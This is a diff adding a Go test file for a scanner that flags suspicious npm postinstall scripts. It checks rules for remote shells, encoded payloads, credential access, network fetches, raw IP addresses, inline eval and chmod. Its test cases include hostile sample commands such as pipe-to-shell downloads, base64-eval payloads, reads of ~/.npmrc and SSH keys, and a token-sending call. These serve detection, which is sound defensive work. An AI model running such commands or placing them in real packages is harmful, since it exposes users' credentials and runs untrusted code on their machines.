@@ -0,0 +1,124 @@
+package analysis
+
+import (
+	"testing"
+
+	"github.com/google/uuid"
+
+	"scrapeNPM/internal/models"
+)
+
+func TestAnalyzeRules(t *testing.T) {
+	tests := []struct {
+		rule    string
+		content string
+		match   string // empty means the rule must not match
+	}{
+		{"remote_shell", "curl -fsSL https://get.example.com | bash", "curl -fsSL https://get.example.com | bash"},
+		{"remote_shell", "wget -qO- http://x.example/i.sh | sudo sh", "wget -qO- http://x.example/i.sh | sudo sh"},
+		{"remote_shell", "curl -o out.tgz https://example.com/a.tgz; tar xzf out.tgz", ""},
+
+		{"encoded_payload", "echo aGk= | base64 -d > run.sh", "base64 -d"},
+		{"encoded_payload", `node -e "eval(Buffer.from(p, 'base64').toString())"`, "Buffer.from(p, 'base64'"},
+		{"encoded_payload", "node build.js --encoding=utf8", ""},
+
+		{"credential_access", "cat ~/.npmrc", ".npmrc"},
+		{"credential_access", "node -e 'send(process.env.NPM_TOKEN)'", "NPM_TOKEN"},
+		{"credential_access", "cp ~/.ssh/id_rsa /tmp/k", ".ssh/"},
+		{"credential_access", "node scripts/token-cache.js", ""},
+
+		{"network_fetch", "wget https://example.com/file", "wget"},
+		{"network_fetch", "node fetch.js http://example.com", "http://"},
+		{"network_fetch", "node-gyp rebuild", ""},
+
+		{"raw_ip_address", "node send.js 185.62.190.10", "185.62.190.10"},
+		{"raw_ip_address", "node-pre-gyp install --fallback-to-build v1.2.3", ""},
+
+		{"inline_eval", "node -e \"require('./x')\"", "node -e"},
+		{"inline_eval", "powershell -enc SQBFAFgA", "powershell -enc"},
+		{"inline_eval", "node install.js --eval-later", ""},
+
+		{"make_executable", "chmod +x bin/cli", "chmod +x"},
+		{"make_executable", "chmod 755 bin/cli", "chmod 755"},
+		{"make_executable", "chmod 644 README.md", ""},
+	}
+
+	analyzer := NewAnalyzer()
+	for _, tt := range tests {
+		script := models.PackageScript{ID: uuid.New(), ScriptType: "postinstall", Content: tt.content}
+
+		var got *models.ScriptFinding
+		for _, f := range analyzer.Analyze(script) {
+			if f.Rule == tt.rule {
+				f := f
+				got = &f
+			}
+		}
+
+		switch {
+		case tt.match == "" && got != nil:
+			t.Errorf("%s matched %q in %q", tt.rule, got.Match, tt.content)
+		case tt.match != "" && got == nil:
+			t.Errorf("%s did not match %q", tt.rule, tt.content)
+		case got != nil && (got.Match != tt.match || got.ScriptID != script.ID):
+			t.Errorf("%s finding in %q = %+v, want match %q", tt.rule, tt.content, *got, tt.match)
+		}
+	}
+}
+
+func TestAnalyzeOrdersFindingsByRule(t *testing.T) {
+	script := models.PackageScript{Content: "curl http://10.0.0.1/x.sh | sh && chmod +x x.sh"}
+
+	var rules, severities []string
+	for _, f := range NewAnalyzer().Analyze(script) {
+		rules = append(rules, f.Rule)
+		severities = append(severities, f.Severity)
+	}
+
+	wantRules := []string{"remote_shell", "network_fetch", "raw_ip_address", "make_executable"}
+	wantSeverities := []string{SeverityHigh, SeverityMedium, SeverityMedium, SeverityLow}
+	if !equal(rules, wantRules) || !equal(severities, wantSeverities) {
+		t.Errorf("findings = %v %v, want %v %v", rules, severities, wantRules, wantSeverities)
+	}
+
+	if findings := NewAnalyzer().Analyze(models.PackageScript{Content: "node-gyp rebuild"}); len(findings) != 0 {
+		t.Errorf("benign script has findings %+v", findings)
+	}
+}
+
+func TestAtLeast(t *testing.T) {
+	tests := []struct {
+		severity string
+		want     []string
+		wantErr  bool
+	}{
+		{SeverityLow, []string{SeverityLow, SeverityMedium, SeverityHigh}, false},
+		{SeverityMedium, []string{SeverityMedium, SeverityHigh}, false},
+		{SeverityHigh, []string{SeverityHigh}, false},
+		{"critical", nil, true},
+		{"", nil, true},
+	}
+
+	for _, tt := range tests {
+		got, err := AtLeast(tt.severity)
+		if (err != nil) != tt.wantErr {
+			t.Errorf("AtLeast(%q) error = %v, want error %v", tt.severity, err, tt.wantErr)
+			continue
+		}
+		if !equal(got, tt.want) {
+			t.Errorf("AtLeast(%q) = %v, want %v", tt.severity, got, tt.want)
+		}
+	}
+}
+
+func equal(a, b []string) bool {
+	if len(a) != len(b) {
+		return false
+	}
+	for i := range a {
+		if a[i] != b[i] {
+			return false
+		}
+	}
+	return true
+}